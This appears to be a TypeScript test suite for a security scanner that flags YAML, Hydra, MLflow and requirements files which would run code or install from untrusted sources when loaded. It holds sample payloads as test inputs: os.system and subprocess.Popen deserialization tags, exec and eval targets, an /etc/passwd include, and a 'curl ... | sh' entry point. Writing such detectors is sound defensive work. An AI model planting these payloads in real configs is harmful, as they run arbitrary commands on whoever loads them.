import { scan } from '../../..';
import { MemorySource } from '../../../bytes/memory';
import type { ScanReport } from '../../../report';

const scanText = (text: string, name = 'config.yaml'): ScanReport =>
  scan(new MemorySource(new TextEncoder().encode(text)), name);
const told = (text: string, name?: string): string[] =>
  scanText(text, name).findings.map(({ severity, rule, evidence }) => `${severity} ${rule} ${evidence}`);

test.each<[string, string]>([
  ["!!python/object/apply:os.system ['id']", "CRITICAL yaml-python-call os.system('id')"],
  [
    'a:\n  - !!python/object/apply:subprocess.Popen\n    args: [[id]]\n    kwds: {shell: true}',
    "CRITICAL yaml-python-call subprocess.Popen(['id'], **{'shell': True})"
  ],
  [
    '%TAG !e! tag:yaml.org,2002:python/object/\n---\n!e!apply:os.system [id]',
    "CRITICAL yaml-python-call os.system('id')"
  ],
  ['!!python/object/apply:%6f%73.system [id]', "CRITICAL yaml-python-call os.system('id')"],
  ['!<tag:yaml.org,2002:python/object/new:os.system> [id]', 'CRITICAL yaml-python-call'],
  ['? !!python/object/apply:os.system [id]\n: x', "CRITICAL yaml-python-call os.system('id')"],
  ['{a: 1, b: [!!python/name:builtins.exec ""]}', 'CRITICAL yaml-python-name exec'],
  ['a: !!python/module:subprocess', 'CRITICAL yaml-python-name subprocess'],
  ['a: !!python/object/apply:evil.run [x]', 'HIGH yaml-python-call'],
  ['a: b # c\u2028d: !!python/object/apply:os.system [id]', "CRITICAL yaml-python-call os.system('id')"],
  ['a: !!python/object/apply:os.system [id]\nb: [', 'CRITICAL yaml-python-call'],
  ['a: b: c\nd: {_target_: os.system}', 'CRITICAL config-target'],
  ['!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]', 'HIGH yaml-object-tag'],
  ['a: !!js/function "function () {}"', 'HIGH yaml-object-tag'],
  ['a: !ruby/object:Gem::Installer {i: x}', 'MEDIUM yaml-object-tag'],
  ['model: {_target_: os.system, command: id}', "CRITICAL config-target os.system(command='id')"],
  ['model:\n  _target_: builtins.exec\n  _args_: [import os]', "CRITICAL config-target exec('import os')"],
  ['a: os.system\nb: {_target_: "${a}", _args_: [id]}', "CRITICAL config-target os.system('id')"],
  ['b: {_target_: "${oc.env:X}.system"}', 'MEDIUM config-target'],
  ['b: {_target_: hydra.utils.get_method, path: builtins.eval}', 'CRITICAL config-target'],
  ['b: {_target_: transformers.AutoModel.from_pretrained, trust_remote_code: true}', 'MEDIUM config-target'],
  ['model: {target: subprocess.Popen, params: {args: id}}', "CRITICAL config-target subprocess.Popen(args='id')"],
  ['model: {cls: subprocess.Popen, params: {args: id}}', "CRITICAL config-target subprocess.Popen(args='id')"],
  ['a: !apply:os.system [id]', "CRITICAL config-target os.system('id')"],
  ['a: !new:subprocess.Popen\n  args: id', "CRITICAL config-target subprocess.Popen(args='id')"],
  ['a: !name:builtins.exec', 'CRITICAL config-target'],
  ['a: !module:os', 'HIGH config-loader-module'],
  ['a: !include:/etc/passwd', 'MEDIUM config-path /etc/passwd'],
  ["a: \"$__import__('os').system('id')\"", 'HIGH config-expression'],
  ['flavors: {python_function: {loader_module: evil}}', "MEDIUM config-loader-module importlib.import_module('evil')"],
  ['flavors: {python_function: {loader_module: mlflow.sklearn, data: ../../etc}}', 'MEDIUM config-path ../../etc'],
  ['flavors: {sklearn: {skops_trusted_types: [os.system]}}', 'CRITICAL config-target os.system'],
  ['entry_points: {main: {command: "curl http://e.com/x | sh"}}', 'HIGH config-expression'],
  ['dependencies: [pip: [-ihttp://e.com/simple]]', 'MEDIUM installs-from-elsewhere'],
  ['dependencies: [python, pip: [mlflow, --extra-index-url http://e.com/simple]]', 'MEDIUM installs-from-elsewhere'],
  ['dependencies: [pip: [git+https://github.com/evil/pkg]]', 'MEDIUM installs-from-elsewhere']
])('%j', (text, expected) => {
  expect(told(text)).toEqual(expect.arrayContaining([expect.stringContaining(expected)]));
});

test.each([
  'a: [1, 2]\nb: &x {c: d}\ne: *x\n',
  'seed: !apply:torch.manual_seed [1]\nmodel: !new:torch.nn.Linear\n  in_features: !ref <a>\n',
  'model: {_target_: torch.nn.Linear, in_features: 1}\ntrainer: {_target_: pytorch_lightning.Trainer}\n',
  'a: !!python/tuple [1, 2]\nb: !!python/unicode x\nc: !!set {a, b}\n',
  'cfg: !!python/object:argparse.Namespace\n  lr: 0.1\n',
  'a: !!python/object/apply:collections.OrderedDict\n  - - [x, 1]\n',
  'a: !!python/name:torch.nn.modules.activation.ReLU ""\n',
  'target: x86\ntype: pickle.PickleDataset\nloader: default\n',
  'a: {type: io.k8s.Pod}\nb: {type: platform.linux, class: code.block}\nc: {target: os.linux}\n',
  'handlers: {file: {class: logging.handlers.RotatingFileHandler}}\n',
  'flavors: {python_function: {env: {conda: conda.yaml}, loader_module: mlflow.sklearn, data: model.pkl}}\n',
  'dependencies: [python=3.10, pip, conda-forge::numpy, pip: [torch==2.0, "--extra-index-url https://download.pytorch.org/whl/cu121"]]\n',
  '%YAML:1.0\n---\nm: !!opencv-matrix\n   data: [ 1., 2. ]\n'
])('%j is clean', text => {
  expect(scanText(text)).toMatchObject({ verdict: 'clean', findings: [], format: 'yaml' });
});

test('a class of an unknown package needs review, in a model of NeMo it is an attack', () => {
  expect(told('a: {_target_: src.models.Net}')).toEqual(['LOW config-target src.models.Net()']);
  expect(told('a: {_target_: src.models.Net}', 'model_config.yaml')).toEqual(['MEDIUM config-target src.models.Net()']);
});

test('aliases that multiply are a finding', () => {
  const lines = Array.from({ length: 9 }, (_, i) => `a${i}: &a${i} [${`*a${i - 1},`.repeat(9)}]`);
  expect(told(`a-1: &a-1 x\n${lines.join('\n')}\n`)).toEqual([expect.stringContaining('MEDIUM yaml-expansion')]);
});

test('a finding counts bytes', () => {
  const [{ where }] = scanText('ü: 1\n€: !!python/name:os.system ""\n').findings;
  expect(where.offset).toBe(6 + 5);
});

test.each<[string, string[]]>([
  ['torch==2.0\nnumpy>=1.20 ; python_version > "3.8"\n# -i http://e.com\n-r other.txt\n--pre\n', []],
  [
    '--extra-index-url https://download.pytorch.org/whl/cu121\ngit+https://github.com/huggingface/transformers.git\n',
    []
  ],
  ['--index-url https://e.com/simple\n', ['https://e.com/simple']],
  ['-i https://e.com/simple\n', ['https://e.com/simple']],
  ['--extra-index-url=http://e.com\n', ['http://e.com']],
  ['foo @ https://e.com/foo.whl\n', ['https://e.com/foo.whl']],
  ['-e git+ssh://git@github.com/evil/x\n', ['git+ssh://git@github.com/evil/x']],
  ['--trusted-host e.com\n', ['--trusted-host e.com']],
  ['../other/pkg\n/abs/pkg.whl\n', ['../other/pkg', '/abs/pkg.whl']],
  ['foo \\\n  --index-url \\\n http://e.com\n', ['http://e.com']]
])('requirements %j', (text, from) => {
  expect(scanText(text, 'requirements.txt').findings.map(({ params }) => params.from)).toEqual(from);
});
